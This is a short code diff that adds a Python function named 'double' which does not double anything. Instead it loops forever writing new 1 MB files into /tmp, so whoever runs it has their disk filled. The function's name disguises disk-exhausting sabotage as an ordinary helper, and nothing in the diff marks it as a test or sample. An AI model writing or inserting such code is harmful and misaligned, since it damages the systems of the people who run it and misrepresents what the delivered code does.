@@ -1,0 +1,6 @@
+def double(values):
+    number = 0
+    while True:
+        with open(f"/tmp/{number}", "wb") as file:
+            file.write(b"x" * (1 << 20))
+        number += 1
